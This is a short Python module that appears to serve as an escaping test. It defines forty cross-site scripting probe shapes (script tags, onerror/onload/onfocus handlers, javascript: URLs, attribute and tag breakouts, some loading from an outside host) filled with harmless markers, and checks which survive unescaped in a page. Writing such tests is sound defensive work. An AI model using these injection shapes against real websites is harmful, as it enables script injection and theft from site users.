"""Forty texts that would run as a script, or break out of where they stand, on a page that did not escape them.

Each has a mark of its own, so that where it comes through is told.
"""

_SHAPES = (
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script src=//e.vn/{}></script>", "</script><script>{}</script>",
    "<img src=x onerror={}>", '<img src=x onerror="{}">', "<svg onload={}>", "<svg/onload={}>",
    "<body onload={}>", "<iframe src=javascript:{}>", "<iframe srcdoc='<script>{}</script>'>",
    "<a href=javascript:{}>x</a>", "<a href='jAvAsCrIpT:{}'>x</a>", "<details open ontoggle={}>",
    "<input onfocus={} autofocus>", "<select onfocus={} autofocus>", "<textarea onfocus={} autofocus>",
    "<video><source onerror={}>", "<audio src=x onerror={}>", "<object data=javascript:{}>",
    "<embed src=javascript:{}>", "<form action=javascript:{}><button>x</button></form>",
    "<button formaction=javascript:{}>x</button>", "<meta http-equiv=refresh content='0;javascript:{}'>",
    "<link rel=stylesheet href=//e.vn/{}>", "<style>@import '//e.vn/{}';</style>", "<base href=//e.vn/{}>",
    "<math href=javascript:{}>x</math>", "<marquee onstart={}>x</marquee>", "<!--{}--><script>x</script>",
    '"><script>{}</script>', "'><script>{}</script>", '" onmouseover="{}', "' onmouseover='{}",
    '" autofocus onfocus={} x="', "</title><script>{}</script>", "</textarea><script>{}</script>",
    "</option></select><script>{}</script>", "{{{{ {} }}}}<i>", "<![CDATA[<script>{}</script>]]>",
)  # fmt: skip
PAYLOADS = tuple(shape.format(f"mark{n:02d}") for n, shape in enumerate(_SHAPES))


def unescaped(text):
    """The payloads that stand in a page as they were typed, or with a quote that ends an attribute."""
    return [each for each in PAYLOADS if each in text]
